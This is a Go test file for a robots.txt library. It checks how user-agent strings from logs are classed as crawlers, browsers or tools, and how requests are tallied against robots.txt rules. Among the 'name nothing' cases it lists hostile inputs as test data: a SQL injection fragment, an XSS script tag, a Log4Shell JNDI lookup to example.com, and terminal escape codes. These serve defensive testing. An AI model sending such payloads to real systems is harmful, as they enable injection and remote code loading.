package robots

import (
	"strings"
	"testing"
)

// TestReadRequester reads the user-agent strings of real logs: crawlers
// catalogued and not, browsers (which copy crawlers' products), tools,
// and strings that name nothing.
func TestReadRequester(t *testing.T) {
	crawler := func(tok string) Requester { return Requester{Kind: CrawlerRequester, Token: tok} }
	known := func(tok string) Requester { return Requester{Kind: CrawlerRequester, Token: tok, Known: true} }
	tool := func(tok string) Requester { return Requester{Kind: ToolRequester, Token: tok} }
	browser := Requester{Kind: BrowserRequester}
	unknown := Requester{}
	for _, tc := range []struct {
		ua   string
		want Requester
	}{
		// Catalogued, wherever the token stands.
		{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", known("Googlebot")},
		{"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.71 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", known("Googlebot")},
		{"Googlebot-Image/1.0", known("Googlebot-Image")},
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", known("GPTBot")},
		{"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", known("bingbot")},
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", known("Applebot")},
		{"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", known("Baiduspider")},
		{"Python-urllib/3.11", known("Python-urllib")},
		// Catalogued in the wide list, named as robots name themselves, or
		// by a name of the catalogue's (Qwantify is Qwantbot's).
		{"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", known("AhrefsBot")},
		{"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", known("SemrushBot")},
		{"Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", known("MJ12bot")},
		{"Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)", known("Slurp")},
		{"Mozilla/5.0 (compatible; Yeti/1.1; +http://naver.me/spd)", known("Yeti")},
		{"Mozilla/5.0 (compatible; Qwantify/2.4w; +https://www.qwant.com/)/2.4w", known("Qwantbot")},
		{"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", known("facebookexternalhit")},
		{"Twitterbot/1.0", known("Twitterbot")},
		{"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", known("Slackbot")},
		{"ia_archiver (+http://www.alexa.com/site/help/webmasters; crawler@alexa.com)", known("ia_archiver")},
		{"Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)", known("DotBot")},
		{"Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", known("UptimeRobot")},
		{"Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)", known("PetalBot")},
		{"Mozilla/5.0 (compatible; Barkrowler/0.9; +https://babbar.tech/crawler)", known("Barkrowler")},
		{"Mozilla/5.0 (Windows NT 6.1; Win64; x64; +http://url-classification.io/wiki/index.php?title=URL_server_crawler) KStandBot/1.0", crawler("KStandBot")},
		{"Mozilla/5.0 (compatible; Bytespider; spider-feedback@bytedance.com)", known("Bytespider")},
		{"Scrapy/2.11.0 (+https://scrapy.org)", known("Scrapy")},
		{"Feedly/1.0 (+http://www.feedly.com/fetcher.html; 5 subscribers; like FeedFetcher-Google)", known("Feedly")},
		{"WhatsApp/2.23.20.0 A", known("WhatsApp")},
		// Browsers, whatever they copy.
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", browser},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0", browser},
		{"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", browser},
		{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1", browser},
		{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/440.0.0.31.105]", browser},
		{"Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0 Mobile Safari/537.36", browser},
		{"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)", browser},
		{"Mozilla/5.0 (compatible; Konqueror/3.5; Linux) KHTML/3.5.10 (like Gecko)", browser},
		{"Opera/9.80 (Windows NT 6.1) Presto/2.12.388 Version/12.18", browser},
		{"Mozilla/5.0 (Linux; Android 10) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile DuckDuckGo/5 Safari/537.36", browser},
		// Tools.
		{"curl/8.5.0", tool("curl")},
		{"Wget/1.21.2", tool("Wget")},
		{"python-requests/2.31.0", tool("python-requests")},
		{"Python/3.11 aiohttp/3.9.1", tool("Python")},
		{"Go-http-client/1.1", tool("Go-http-client")},
		{"Go-http-client/2.0", tool("Go-http-client")},
		{"Java/17.0.2", tool("Java")},
		{"Apache-HttpClient/4.5.13 (Java/17.0.2)", tool("Apache-HttpClient")},
		{"okhttp/4.12.0", tool("okhttp")},
		{"axios/1.6.2", tool("axios")},
		{"PostmanRuntime/7.36.0", tool("PostmanRuntime")},
		{"libwww-perl/6.72", tool("libwww-perl")},
		{"MyApp/2.1.0 CFNetwork/1410.0.3 Darwin/22.6.0", tool("CFNetwork")},
		{"Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)", tool("Dalvik")},
		{"Mozilla/5.0 (Linux; Android 13; SM-S911B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/119.0.6045.163 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/442.0.0.33.113;]", browser},
		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36", tool("HeadlessChrome")},
		// Strings that name nothing.
		{"", unknown},
		{"-", unknown},
		{"   ", unknown},
		{"Mozilla", unknown},
		{"' OR 1=1 --", unknown},
		{"<script>alert(1)</script>", unknown},
		{"${jndi:ldap://example.com/a}", unknown},
		{"curl/8\x00.0", unknown},
		{"Googlebot\x1b[31m", unknown},
		{strings.Repeat("a", 100000) + "/1.0", unknown},
		{strings.Repeat("(", 1000), unknown},
		{"\xff\xfe/1.0", unknown},
	} {
		if got := ReadRequester(tc.ua); got != tc.want {
			ua := tc.ua
			if len(ua) > 80 {
				ua = ua[:80] + "…"
			}
			t.Errorf("ReadRequester(%q) = %+v, want %+v", ua, got, tc.want)
		}
	}
}

// TestAddRequestReadsRequesters counts a log's requests as ReadRequester
// reads them: an uncatalogued crawler under its token, read through the
// groups that name it; browsers and tools apart, unchecked.
func TestAddRequestReadsRequesters(t *testing.T) {
	f := ParseString("User-agent: AhrefsBot\nDisallow: /\n\nUser-agent: MJ12bot\nDisallow: /x\n\nUser-agent: *\nDisallow: /private/\n")
	c := NewCoverage(f)
	for _, r := range []struct {
		ua, url string
	}{
		{"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "/a"},
		{"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "/b"},
		{"Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", "/x"},
		{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "/private/a"},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", "/private/a"},
		{"curl/8.5.0", "/private/a"},
		{"-", "/"},
	} {
		c.AddRequest(r.ua, r.url, 200)
	}
	got := map[string][2]int{}
	for _, tl := range c.Tallies() {
		got[tl.Agent] = [2]int{tl.Allowed, tl.Blocked}
	}
	want := map[string][2]int{"AhrefsBot": {0, 2}, "MJ12bot": {0, 1}, "Googlebot": {0, 1}}
	if len(got) != len(want) {
		t.Errorf("tallies %v, want %v", got, want)
	}
	for a, w := range want {
		if got[a] != w {
			t.Errorf("%s: allowed, blocked %v, want %v", a, got[a], w)
		}
	}
	if n := c.NotCrawlers(); n.Browsers != 1 || n.Tools != 1 || n.Unknown != 1 || len(n.ToolNames) != 1 || n.ToolNames[0] != "curl" {
		t.Errorf("not crawlers %+v", n)
	}
	if c.URLs() != 4 {
		t.Errorf("%d requests checked, want 4", c.URLs())
	}
}
